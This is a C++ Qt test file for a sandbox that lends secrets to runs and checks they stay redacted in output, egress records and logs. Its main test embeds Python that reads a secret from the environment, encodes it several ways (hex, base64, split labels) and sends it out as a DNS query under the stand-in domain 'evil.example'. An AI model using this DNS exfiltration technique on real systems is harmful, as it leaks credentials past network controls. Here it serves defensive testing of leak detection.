// SPDX-License-Identifier: Apache-2.0
// Secrets that are lent to runs which ask for names that hold them: withheld in attempts, result and record.
#include "lentfixture.h"

#include <QJsonDocument>

using namespace glovebox;
using namespace Qt::StringLiterals;

class TestLentNames : public LentFixture
{
    Q_OBJECT

private Q_SLOTS:
    void aNameThatHoldsAValueIsWithheld_data()
    {
        QTest::addColumn<QByteArray>("value");
        QTest::addColumn<QByteArray>("labels"); // Python, of k
        QTest::addColumn<bool>("hasNetwork");
        for (const bool hasNetwork : {false, true}) {
            const auto row = [hasNetwork](const char *name, const QByteArray &value, const QByteArray &labels) {
                QTest::addRow("%s%s", name, hasNetwork ? ", with a network" : "") << value << labels << hasNetwork;
            };
            row("blanks", "Correct horse battery", "[k]");
            row("longer than a label", QByteArray("Ab0").repeated(30) + "End", "[k[:63], k[63:]]");
            row("dots", "eyJhbGciOi.TopSecretPart.Signature", "k.split(b\".\")");
            row("dots in a label", "eyJhbGciOi.TopSecretPart.Signature", "[k]");
            row("capitals", "TopSecretValue42", "[k]");
            row("short", "PiN7", "[k]");
            row("bytes beyond ASCII", "Geh\xc3\xa4uT\xc3\xbcr", "[k]");
            row("hexadecimal", "TopSecretValue42", "[k.hex().encode()]");
            row("base64", "TopSecretValue42", "[__import__(\"base64\").b64encode(k).rstrip(b\"=\")]");
        }
    }
    void aNameThatHoldsAValueIsWithheld()
    {
        QFETCH(QByteArray, value);
        QFETCH(QByteArray, labels);
        QFETCH(bool, hasNetwork);
        open();
        add(u"KEY"_s, SecretValue::copyOf(value));
        RunRequest wanted =
            request("python",
                    "import os, socket\nk = os.environb[b'KEY']\ns = socket.socket(2, 2)\n"
                    "name = b''.join(bytes([len(l)]) + l for l in "
                        + labels
                        + " + [b'evil', b'example'])\n"
                          "s.sendto(b'\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + name + b'\\0\\0\\1\\0\\1',"
                          " ('127.0.0.1', 53))\ns.recv(512)\n",
                    {{u"KEY"_s, {}, false}});
        if (hasNetwork)
            wanted.policy.allow = {u"www.allowed.example"_s};
        const auto result = m_engine->start(std::move(wanted))->wait();
        QCOMPARE(result->err.kept(), QByteArray());
        QCOMPARE(result->egress.size(), 1);
        QCOMPARE(result->egress.first().host, u"[secret KEY].evil.example"_s);
        QVERIFY(!ruleFor(result->egress.first()));
        const QByteArray all = QJsonDocument(toJson(*result)).toJson() + entries(result->id);
        QCOMPARE(all.count("[secret KEY].evil.example"), 2);
        QVERIFY2(!all.toLower().contains(value.first(4).toLower()), all);
    }

    void otherNamesStayAsTheyAre()
    {
        open();
        add(u"KEY"_s, SecretValue::copyOf("TopSecretValue42"));
        const auto result = run("python",
                                "import socket\ns = socket.socket(2, 2)\n"
                                "s.sendto(b'\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3a b\\4Evil\\0\\0\\1\\0\\1',"
                                " ('127.0.0.1', 53))\ns.recv(512)\n",
                                {{u"KEY"_s, {}, false}});
        QCOMPARE(result->egress.size(), 1);
        QCOMPARE(result->egress.first().host, u"a\\032b.Evil"_s);
    }

    void aValueThatRepeatsItselfIsCountedEachTime()
    {
        open();
        add(u"KEY"_s, SecretValue::copyOf("abababab"));
        const auto result =
            run("python", "import os\nk = os.environ['KEY']\nprint(k + k)\nprint(k)\n", {{u"KEY"_s, {}, false}});
        QCOMPARE(result->out.kept(), QByteArray("[secret KEY]\n[secret KEY]\n"));
        QCOMPARE(result->events.size(), 1);
        QCOMPARE(result->events.first().detail.english(), u"The run printed KEY 3 times; shown as [secret KEY]."_s);
    }
};

QTEST_GUILESS_MAIN(TestLentNames)
#include "tst_lentnames.moc"
